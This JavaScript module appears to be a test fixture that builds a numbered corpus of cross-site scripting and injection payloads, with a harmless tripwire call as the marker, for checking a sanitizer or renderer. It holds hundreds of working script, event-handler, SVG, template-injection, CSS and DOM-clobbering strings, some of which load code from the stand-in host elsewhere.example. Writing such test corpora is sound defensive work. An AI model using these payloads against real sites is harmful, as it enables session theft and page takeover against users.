// What somebody might write into a field to do harm. Whatever runs calls HIT, which becomes
// `tripwire(number)`; whatever is fetched is fetched from `elsewhere.example`.
import { DELIMITERS, FORMULAS, LINKS, NAMES, PATHS, SIGNS, TERMINAL } from './texts.mjs';

const SCRIPTS = [
  '<script>HIT</script>', '<ScRiPt>HIT</sCrIpT>', '<script >HIT</script >', '<script/x>HIT</script>',
  '<script\n>HIT</script\n>', '<scr\0ipt>HIT</script>', '<scr<script>ipt>HIT</scr</script>ipt>',
  '<script src=https://elsewhere.example/x.js></script>', '<script src=//elsewhere.example/x.js></script>',
  '<script src="data:text/javascript,HIT"></script>', '<script type=module>HIT</script>',
  '<script type="text/plain">HIT</script>', '<script>/*</script><script>*/HIT</script>',
  '<script><!--\nHIT\n--></script>', '<![CDATA[<script>HIT</script>]]>', '<!--><script>HIT</script>-->',
  '<script>HIT', '</script><script>HIT</script>', '</title><script>HIT</script>', '</textarea><script>HIT</script>',
  '</style><script>HIT</script>', '</noscript><script>HIT</script>', '</template><script>HIT</script>',
  '<noscript><p title="</noscript><img src=x onerror=HIT>">', '<xmp><script>HIT</script></xmp>',
  '&lt;script&gt;HIT&lt;/script&gt;', '&#60;script&#62;HIT&#60;/script&#62;', '&#x3c;img src=x onerror=HIT&#x3e;',
  '&amp;lt;img src=x onerror=HIT&amp;gt;', '%3Cscript%3EHIT%3C/script%3E', '%253Cscript%253EHIT%253C/script%253E',
  '\\u003cscript\\u003eHIT\\u003c/script\\u003e', '\\x3cscript\\x3eHIT\\x3c/script\\x3e',
  '＜script＞HIT＜/script＞', '+ADw-script+AD4-HIT+ADw-/script+AD4-', '<\u2028script>HIT</script>',
];

const HANDLERS = [
  '<img src=x onerror=HIT>', '<img src=x onerror="HIT">', "<img src=x onerror='HIT'>", '<img src=x onerror=`HIT`>',
  '<IMG SRC=x ONERROR=HIT>', '<img/src=x/onerror=HIT>', '<img\tsrc=x\tonerror=HIT>', '<img\nsrc=x\nonerror=HIT>',
  '<img\fsrc=x\fonerror=HIT>', '<img src=x onerror\n=\nHIT>', '<img src=x onerror=&#72;IT//>', '<img src=x onerror=HIT//',
  '<img src=x:x onerror=HIT>', '<img src=1 onerror=eval("HIT")>', '<img src=x onerror=window["eval"]("HIT")>',
  '<img srcset=x onerror=HIT>', '<img """><img src=x onerror=HIT>">', '<<img src=x onerror=HIT>', '<img src=x onerror=HIT',
  '<image src=x onerror=HIT>', '<body onload=HIT>', '<body onpageshow=HIT>', '<body onhashchange=HIT>',
  '<input autofocus onfocus=HIT>', '<select autofocus onfocus=HIT>', '<textarea autofocus onfocus=HIT>',
  '<button autofocus onfocus=HIT>x</button>', '<a id=x tabindex=1 autofocus onfocus=HIT>x</a>',
  '<div contenteditable autofocus onfocus=HIT>x</div>', '<details open ontoggle=HIT>x</details>',
  '<audio src=x onerror=HIT></audio>', '<video src=x onerror=HIT></video>', '<video><source src=x onerror=HIT></video>',
  '<audio autoplay onloadstart=HIT src=x></audio>', '<video poster=x onloadstart=HIT src=x></video>',
  '<track default src=x onerror=HIT>', '<object data=x onerror=HIT></object>', '<embed src=x onerror=HIT>',
  '<object data="javascript:HIT"></object>', '<embed src="javascript:HIT">', '<object data="data:text/html,<script>HIT</script>"></object>',
  '<iframe src="javascript:parent.HIT"></iframe>', '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
  '<iframe onload=HIT></iframe>', '<iframe srcdoc="&lt;img src=x onerror=parent.HIT&gt;"></iframe>',
  '<iframe src="data:text/html,<script>parent.HIT</script>"></iframe>', '<frameset onload=HIT><frame src=x></frameset>',
  '<marquee onstart=HIT>x</marquee>', '<marquee loop=1 width=0 onfinish=HIT>x</marquee>', '<link rel=stylesheet href=x onerror=HIT>',
  '<link rel=prefetch href=https://elsewhere.example/prefetch>', '<link rel=import href=https://elsewhere.example/import>',
  '<style onload=HIT></style>', '<style>*{animation-name:x}</style><b onanimationstart=HIT>x</b>',
  '<b style="animation:x 1s" onanimationstart=HIT>x</b><style>@keyframes x{from{left:0}}</style>',
  '<b style=transition:all+1s ontransitionend=HIT>x</b>', '<p onmouseover=HIT style=position:fixed;inset:0>x</p>',
  '<p onpointerenter=HIT style=position:fixed;inset:0>x</p>', '<p onclick=HIT style=position:fixed;inset:0>x</p>',
  '<base href=https://elsewhere.example/>', '<base href="javascript:HIT//">', '<meta http-equiv=refresh content="0;url=javascript:HIT">',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.example/refresh">', '<meta charset=utf-7>',
  '<form action=javascript:HIT><input type=submit autofocus></form>', '<form><button formaction=javascript:HIT>x</button></form>',
  '<isindex action=javascript:HIT type=image>', '<math><mi xlink:href=javascript:HIT>x</mi></math>', '<math href=javascript:HIT>x</math>',
  '<template><img src=x onerror=HIT></template>', '<template shadowrootmode=open><img src=x onerror=HIT></template>',
  '<biblio-bus catalogue=https://elsewhere.example/></biblio-bus>', '<x-y is=biblio-bus onclick=HIT>x</x-y>', '<slot onslotchange=HIT></slot>',
  '<portal src=https://elsewhere.example/>', '<dialog open onclose=HIT><form method=dialog><button autofocus>x</button></form></dialog>',
  '<input type=image src=x onerror=HIT>', '<table background=https://elsewhere.example/table.png><td>x</table>',
  '<applet code=HIT></applet>', '<bgsound src=javascript:HIT>', '<keygen autofocus onfocus=HIT>', '<xss onbeforescriptexecute=HIT>x</xss>',
];

const DRAWINGS = [
  '<svg onload=HIT>', '<svg/onload=HIT>', '<svg><script>HIT</script></svg>', '<svg><script href="data:text/javascript,HIT"/></svg>',
  '<svg><script>&#72;&#73;T</script></svg>', '<svg><a xlink:href="javascript:HIT"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=HIT attributeName=x dur=1s></svg>', '<svg><set onbegin=HIT attributeName=x></svg>',
  '<svg><a><animate attributeName=href values=javascript:HIT /><text y=20>x</text></a></svg>',
  '<svg><image href=x onerror=HIT /></svg>', '<svg><image href=https://elsewhere.example/svg.png /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=HIT /></svg>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>', '<svg><style><img src=x onerror=HIT></style></svg>',
  '<svg><title><img src=x onerror=HIT></title></svg>', '<svg><desc><script>HIT</script></desc></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=HIT></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>', '<svg></p><style><a id="</style><img src=x onerror=HIT>">',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="HIT"/>', '<svg><discard onbegin=HIT></svg>',
];

const BREAKERS = ['"', "'", '`', '">', "'>", '--><', ']]>', '"/>', '\\"', "\\'"].flatMap((out) => [
  `x${out} onfocus=HIT autofocus x=${out}`, `x${out}<img src=x onerror=HIT>`, `x${out};HIT;//`,
]);

const TEMPLATES = [
  "{{constructor.constructor('HIT')()}}", "{{$on.constructor('HIT')()}}", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=HIT')}}",
  "{{this.constructor.constructor('HIT')()}}", '{{{HIT}}}', '{{&HIT}}', '{{#with "s" as |x|}}{{HIT}}{{/with}}', '${HIT}', '`${HIT}`',
  '#{HIT}', '*{HIT}', '[[${HIT}]]', '[(HIT)]', '<%= HIT %>', '<% HIT %>', '{% HIT %}', '{{= HIT }}', '@{HIT}', '<?= HIT ?>',
  '{HIT}', '{move || HIT}', '{format!("{}", HIT)}', '<div v-html="HIT" ng-app ng-init="HIT" x-data x-init="HIT">x</div>',
  "<div data-bind=\"text: HIT\">x</div>", '<b hx-on:load=HIT>x</b>',
];

const STYLES = [
  '<style>@import "https://elsewhere.example/x.css";</style>', '<style>*{background:url(https://elsewhere.example/css.png)}</style>',
  '<b style="background:url(https://elsewhere.example/inline.png)">x</b>', '<b style="background:url(javascript:HIT)">x</b>',
  '<b style="width:expression(HIT)">x</b>', '<b style="behavior:url(#default#time2)" onbegin=HIT>x</b>', '<b style="-moz-binding:url(https://elsewhere.example/x.xml#x)">x</b>',
  'x;background:url(https://elsewhere.example/style.png)', '}*{background:url(https://elsewhere.example/rule.png)}', 'red;}</style><script>HIT</script>',
  'url(https://elsewhere.example/value.png)', 'var(--x,url(https://elsewhere.example/var.png))', '\\75rl(https://elsewhere.example/escaped.png)',
  'image-set("https://elsewhere.example/set.png" 1x)', '*/HIT/*', '@charset "utf-7";+ADw-',
];

const CLOBBERS = [
  '<img name=currentScript src=x>', '<img name=getElementById>', '<img name=createElement>', '<form id=config><input name=key value=x></form>',
  '<a id=defaultView href=x>x</a>', '<form name=body><input name=append></form>', '<iframe name=customElements></iframe>', '<img id=WebAssembly>',
  '<a id=tripwire href=x></a>', '<form id=adoptedStyleSheets>', '<input id=indexedDB name=open>', '<object name=documentElement></object>',
  '<img name=baseURI>', '<a id=location href=javascript:HIT>x</a>', '<form name=cookie>', '<embed name=scripts>',
];

const HUGE = [
  '<b>'.repeat(3000), 'A'.repeat(12_000), '\u0301'.repeat(4000), 'ﷺ'.repeat(2000), `${'('.repeat(5000)}${')'.repeat(5000)}`, 'а '.repeat(5000),
  '"'.repeat(8000), '&amp;'.repeat(2000), '\u{1F468}\u200d'.repeat(1500),
];

const FAMILIES = {
  script: SCRIPTS, handler: HANDLERS, drawing: DRAWINGS, attribute: BREAKERS, template: TEMPLATES, style: STYLES, clobbering: CLOBBERS,
  huge: HUGE, link: LINKS, formula: FORMULAS, delimiter: DELIMITERS, name: NAMES, sign: SIGNS, path: PATHS, terminal: TERMINAL,
};

/** All of them: `{ number, family, text }`. */
export const PAYLOADS = Object.entries(FAMILIES)
  .flatMap(([family, texts]) => texts.map((text) => ({ family, text })))
  .map(({ family, text }, number) => ({ number, family, text: text.replaceAll('HIT', `tripwire(${number})`) }));
